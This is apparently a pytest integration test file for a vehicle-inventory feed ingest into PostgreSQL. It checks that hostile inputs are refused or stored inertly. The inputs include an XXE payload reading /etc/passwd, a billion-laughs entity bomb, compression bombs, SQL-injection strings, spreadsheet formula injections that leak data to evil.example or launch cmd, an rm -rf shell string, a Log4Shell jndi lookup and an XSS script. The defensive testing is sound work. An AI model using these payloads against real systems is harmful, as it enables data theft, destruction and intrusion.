"""Hostile feeds through the real ingest into PostgreSQL: XXE and entity bombs, compression
bombs, oversized downloads, malformed and junk files, SQL and formula strings. Each test
asserts what the database holds afterwards."""

from __future__ import annotations

import csv
import gzip
import io
import json
import resource
import zipfile

import pytest

from crawler import fixture_server
from crawler.config import reset_settings
from crawler.db import dealers as dealers_db
from crawler.db import jobs as jobs_db
from crawler.errors import ForecourtError
from ingest import fetch as fetch_mod
from ingest import readers
from ingest.feed_job import run_job
from ingest.streams import FeedTooLarge
from tests.conftest import REAL

pytestmark = pytest.mark.integration

VIN = "4T1G11AK9LU401122"
HEADER = ["Stock", "Type", "Year", "Make", "Model", "Trim", "Body", "ExteriorColor",
          "InteriorColor", "Transmission", "Drivetrain", "Fuel", "Engine", "Miles",
          "SellingPrice", "MSRP", "VIN", "ImageList", "Description"]


def _row(**over):
    row = dict(zip(HEADER, ["HC1", "Used", "2020", "Toyota", "Camry", "SE", "Sedan", "Silver",
                            "Black", "Automatic", "FWD", "Gasoline", "2.5L I4", "34210",
                            "22995", "", VIN, "", "Clean"], strict=True))
    row.update(over)
    return row


def _csv(rows) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, HEADER)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _ingest(db, tmp_path, name: str, body: bytes, fmt: str | None = None, slug="hostile"):
    path = tmp_path / name
    path.write_bytes(body)
    dealer = dealers_db.get(db, slug) if _exists(db, slug) else \
        dealers_db.create(db, slug=slug, name="Hostile", feed_url=str(path))
    job, _ = jobs_db.create_or_get_active(db, dealer.id, "feed", "operator")
    jobs_db.start(db, job.id, "test")
    return run_job(db, job.id, path, fmt=fmt)


def _exists(db, slug):
    return db.execute("SELECT 1 FROM dealerships WHERE slug = %s", (slug,)).fetchone()


def _count(db, table):
    return db.execute(f"SELECT count(*) AS n FROM {table}").fetchone()["n"]


def _peak_rss_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel>
<item><g:vin>4T1G11AK9LU401122</g:vin><g:description>&xxe;</g:description>
<g:year>2020</g:year><g:make>Toyota</g:make><g:model>Camry</g:model></item>
</channel></rss>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel>
<item><g:vin>4T1G11AK9LU401122</g:vin><g:description>&lol9;</g:description>
<g:year>2020</g:year><g:make>Toyota</g:make><g:model>Camry</g:model></item>
</channel></rss>"""


def _disguised(doc: bytes) -> list[tuple[str, bytes]]:
    """The same document as plainly sent, with the DOCTYPE pushed past the first 64 KB, and
    re-encoded as UTF-16 (where a byte search for '<!DOCTYPE' finds nothing)."""
    decl, _, rest = doc.partition(b"?>")
    padded = decl + b"?>" + b"<!--" + b" " * 70_000 + b"-->" + rest
    utf16 = doc.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    return [("plain", doc), ("padded", padded), ("utf16", utf16.encode("utf-16"))]


@pytest.mark.parametrize("doc", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
def test_xml_entities_are_refused_without_reading_files_or_expanding(db, tmp_path, doc):
    for variant, body in _disguised(doc):
        before = _peak_rss_mb()
        job = _ingest(db, tmp_path, f"feed-{variant}.xml", body, fmt="xml")
        assert _peak_rss_mb() - before < 200, variant  # nothing expanded in memory
        assert job.state in ("failed", "partial"), (variant, job.state)
        assert job.error, variant
        stored = db.execute("SELECT description FROM vehicles").fetchall()
        rejects = db.execute("SELECT payload::text AS p FROM rejects").fetchall()
        text = " ".join(str(r["description"]) for r in stored) + \
            " ".join(r["p"] for r in rejects)
        assert "root:" not in text, variant  # /etc/passwd was never read
        assert "lollollol" not in text, variant  # no entity was expanded
        assert all(r["description"] in (None, "") or len(r["description"]) < 1000
                   for r in stored)


def _gzip_bomb(size: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as gz:
        gz.write(_csv([_row()]))
        block = b"," * (1 << 20)
        for _ in range(size >> 20):
            gz.write(block)
    return out.getvalue()


def _zip_lying_about_size(size: int) -> bytes:
    """A zip whose member decompresses to `size` bytes although its header says 100."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("feed.csv", _csv([_row()]) + b"," * size)
    data = bytearray(out.getvalue())
    # patch the uncompressed size in the local header and the central directory
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(sig)
        data[at + offset:at + offset + 4] = (100).to_bytes(4, "little")
    return bytes(data)


def test_compressed_feeds_expanding_past_the_limit_are_stopped(db, tmp_path, monkeypatch):
    monkeypatch.setenv("FORECOURT_FEED_MAX_BYTES", str(4 << 20))
    reset_settings()
    for name, body in (("bomb.csv.gz", _gzip_bomb(64 << 20)),
                       ("bomb.zip", _zip_lying_about_size(64 << 20))):
        assert len(body) < 1 << 20  # small on disk...
        before = _peak_rss_mb()
        job = _ingest(db, tmp_path, name, body)
        assert _peak_rss_mb() - before < 100  # ...and never held in memory
        assert job.state == "failed", job.error
        # the gzip bomb hits the configured limit; the zip, whose header lies about its
        # size, is cut at the size it declared and found corrupt
        assert (job.error_kind, "4,194,304" in job.error) == ("FeedTooLarge", True) or \
            job.error_kind == "CorruptFeed", job.error
    assert _count(db, "vehicles") == 0
    # the limit is the one configured: the same bomb under a larger limit reads further
    with pytest.raises(FeedTooLarge):
        path = tmp_path / "again.csv.gz"
        path.write_bytes(_gzip_bomb(8 << 20))
        list(readers.read(path))


def test_feed_downloads_larger_than_the_limit_are_cut_off(tmp_path, monkeypatch):
    root = tmp_path / "feeds"
    root.mkdir()
    (root / "routes.json").write_text(json.dumps({
        "/huge.csv": {"huge_bytes": 50_000_000}, "/endless.csv": {"endless": True}}))
    monkeypatch.setenv("FORECOURT_FEED_MAX_DOWNLOAD_BYTES", str(2 << 20))
    reset_settings()
    with fixture_server.serving(root) as base:
        for path in ("/huge.csv", "/endless.csv"):
            with pytest.raises(FeedTooLarge) as info:
                fetch_mod.fetch(base + path, dest_dir=tmp_path / "dl")
            assert "2,097,152" in str(info.value)
    assert list((tmp_path / "dl").iterdir()) == []  # the partial download is gone


JUNK = {
    "unbalanced-quotes.csv": _csv([_row()]) + b'HC2,"Used,2020,Toyota\n' + b"x" * 100,
    "ragged.csv": _csv([_row()]) + b"HC3,Used\n" + b"a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t\n",
    "truncated.json": json.dumps([_row(), _row(VIN="2T3P1RFV7PC338201")]).encode()[:-40],
    "broken-record.json": b'[{"VIN": "4T1G11AK9LU401122", "Year": 2020, "Make": "Toyota"},'
                          b' {"VIN": "2T3P1 oops }, {"VIN": "3GNAXKEG2RS112233"}]',
    "not-a-list.json": b'{"hello": "world"}',
    "lines.jsonl": b'{"VIN": "4T1G11AK9LU401122", "Make": "Toyota", "Year": 2020}\n'
                   b'not json at all\n[1, 2]\n{"VIN": "trunc',
    "cp1252.csv": _csv([_row(Description="Caf\u00e9 \u2013 \u201cclean\u201d")]).decode()
    .encode("cp1252"),
    "utf16.csv": _csv([_row(Description="\u00fcber clean")]).decode().encode("utf-16"),
    "binary.csv": bytes(range(256)) * 40,
    "binary.json": b"[" + bytes(range(256)) * 10,
    "binary.xml": b"<?xml version='1.0'?><rss>" + bytes(range(1, 256)) * 10,
    "nul-bytes.csv": _csv([_row(Description="before\x00after", Trim="S\x00E")]),
    "odd-types.json": json.dumps([{"VIN": "4T1G11AK9LU401122", "Year": [2020], "Make": 7,
                                   "Model": {"x": 1}, "ImageList": True, "Miles": False,
                                   "SellingPrice": [1, "2"], "Description": None}]).encode(),
    "empty.csv": b"",
    "header-only.csv": b",".join(h.encode() for h in HEADER) + b"\n",
}


@pytest.mark.parametrize("name", sorted(JUNK))
def test_malformed_feeds_end_in_typed_rejects_or_failures_never_a_crash(db, tmp_path, name):
    job = _ingest(db, tmp_path, name, JUNK[name])  # run_job returns: nothing escaped
    assert job.state in ("succeeded", "partial", "failed"), job.state
    if job.state == "failed":
        assert job.error and job.error_kind, job
    rejects = db.execute("SELECT reasons, payload FROM rejects").fetchall()
    assert all(r["reasons"] and all(isinstance(x, str) and x for x in r["reasons"])
               for r in rejects)
    assert job.counters.get("rejected", 0) == len(rejects)
    for v in db.execute("SELECT vin, description, trim FROM vehicles").fetchall():
        assert len(v["vin"]) == 17
        assert "\x00" not in (v["description"] or "") + (v["trim"] or "")


def test_encodings_are_decoded_not_mangled(db, tmp_path):
    _ingest(db, tmp_path, "cp1252.csv", JUNK["cp1252.csv"])
    assert db.execute("SELECT description FROM vehicles").fetchone()["description"] == \
        "Caf\u00e9 \u2013 \u201cclean\u201d"


INJECTIONS = [
    "'; DROP TABLE vehicles; --",
    "Robert'); DELETE FROM jobs WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "$(rm -rf /) `reboot` {{7*7}} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
]


def test_sql_and_formula_strings_are_stored_verbatim_and_harmless(db, tmp_path):
    vins = ["4T1G11AK9LU401122", "2T3P1RFV7PC338201", "3GNAXKEG2RS112233",
            "1FTFW1E8XNFA20418", "3VW6T7AU3KM022910", "4S4BTACC1L3210987",
            "KM8JBCD16RU412377", "W1KAF4HB3MR023456", "1C4HJXDG2NW150034"]
    rows = [_row(VIN=vin, Stock=s.strip(), Description=s, ExteriorColor=s.strip(),
                 Engine=s.strip()) for vin, s in zip(vins, INJECTIONS, strict=True)]
    rows.append(_row(VIN="'; DROP TABLE vehicles; --", Make="=cmd|' /C calc'!A0"))
    job = _ingest(db, tmp_path, "inject.csv", _csv(rows))
    assert job.state in ("succeeded", "partial"), job.error
    stored = {r["vin"]: r for r in db.execute(
        "SELECT vin, stock_number, description, exterior_color, engine FROM vehicles")}
    assert len(stored) == len(INJECTIONS)
    for vin, s in zip(vins, INJECTIONS, strict=True):
        row = stored[vin]
        expect = " ".join(s.split())  # text fields are trimmed to one line, nothing else
        assert row["description"] == expect
        assert row["stock_number"] == row["exterior_color"] == row["engine"] == s.strip()
    # the hostile VIN is a reject, its raw payload kept verbatim
    reject = db.execute("SELECT reasons, payload FROM rejects").fetchone()
    assert "'; DROP TABLE vehicles; --" in json.dumps(reject["payload"])
    # every table is intact
    assert _count(db, "jobs") == 1 and _count(db, "vehicle_events") == len(INJECTIONS)
    with pytest.raises(ForecourtError):
        dealers_db.get(db, "'; DROP TABLE dealerships; --")


def test_a_broken_json_record_with_nested_lists_does_not_end_the_feed_early(db, tmp_path):
    """A real snapshot whose record 265 of 269 has a raw tab in a string (Python's JSON
    refuses control characters) and a list of package objects: reading goes on at record
    266, not inside record 265, whose packages' "]" ended the feed as if whole; the gate
    then passed 264 of 269 and the last four cars were removed."""
    path = sorted((REAL / "jkomskis-daily").glob("inventory_*.json.gz"))[0]
    records = json.loads(gzip.decompress(path.read_bytes()))
    assert len(records) == 269 and len(records[264]["packages"]) >= 2
    first = _ingest(db, tmp_path, "feed.json", json.dumps(records).encode())
    assert first.state == "succeeded" and first.counters["added"] == 269
    parts = [json.dumps(r) for r in records]
    parts[264] = parts[264].replace('"trim": "', '"trim": "XLE\tPremium ', 1)
    job = _ingest(db, tmp_path, "feed.json", ("[" + ", ".join(parts) + "]").encode())
    assert job.counters["items"] == 269 and job.counters["rejected"] == 1
    after = [r["vin"] for r in records[265:]]
    assert db.execute("SELECT count(*) AS n FROM vehicles WHERE status = 'active'"
                      " AND vin = ANY(%s)", (after,)).fetchone()["n"] == 4
    assert job.counters["removed"] == 0  # the broken record names its car's VIN too


def _snapshot_csv(records: list[dict], broken: int, how: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["Stock", "VIN", "Year", "Make", "Model", "Trim", "SellingPrice",
                     "VehicleURL", "Description"])
    for i, r in enumerate(records):
        row = [r["stock_number"] or f"S{i}", r["vin"], r["year"], "Toyota", "RAV4", r["trim"],
               r["total_price"], r["detail_url"], "clean"]
        if i == broken and how == "unquoted-comma":
            row[-1] = "clean, one owner"
            out.write(",".join(map(str, row)) + "\n")  # 10 fields where the header has 9
            continue
        if i == broken and how == "huge-field":
            row[-1] = "x" * 20_000
        writer.writerow(row)
    return out.getvalue().encode()


@pytest.mark.parametrize("how", ["unquoted-comma", "huge-field", "bad-json-line"])
def test_a_listed_car_whose_row_cannot_be_read_is_not_removed(db, tmp_path, monkeypatch, how):
    """A row that cannot be read at all (a stray comma, a field over the record limit, a
    JSON Lines record that does not parse) is still the car's row when its text names one
    VIN: the car is on the dealer's list, as for a row rejected for a typo'd year, so the
    run does not remove it (it did: a removed event today, relisted tomorrow)."""
    monkeypatch.setenv("FORECOURT_FEED_MAX_RECORD_CHARS", "10000")
    reset_settings()
    try:
        path = sorted((REAL / "jkomskis-daily").glob("inventory_*.json.gz"))[0]
        records = json.loads(gzip.decompress(path.read_bytes()))
        vin = records[100]["vin"]
        if how == "bad-json-line":
            lines = [json.dumps(r) for r in records]
            name, good = "feed.jsonl", ("\n".join(lines) + "\n").encode()
            lines[100] = lines[100].replace('"trim": "', '"trim": "XLE\tPremium ', 1)
            bad = ("\n".join(lines) + "\n").encode()
        else:
            name, good = "feed.csv", _snapshot_csv(records, -1, how)
            bad = _snapshot_csv(records, 100, how)
        first = _ingest(db, tmp_path, name, good)
        assert first.state == "succeeded" and first.counters["added"] == 269, first.error
        job = _ingest(db, tmp_path, name, bad)
        assert job.state == "succeeded" and job.counters["rejected"] == 1, job.error
        assert job.counters["removed"] == 0
        assert db.execute("SELECT status FROM vehicles WHERE vin = %s", (vin,)
                          ).fetchone()["status"] == "active"
    finally:
        monkeypatch.undo()
        reset_settings()
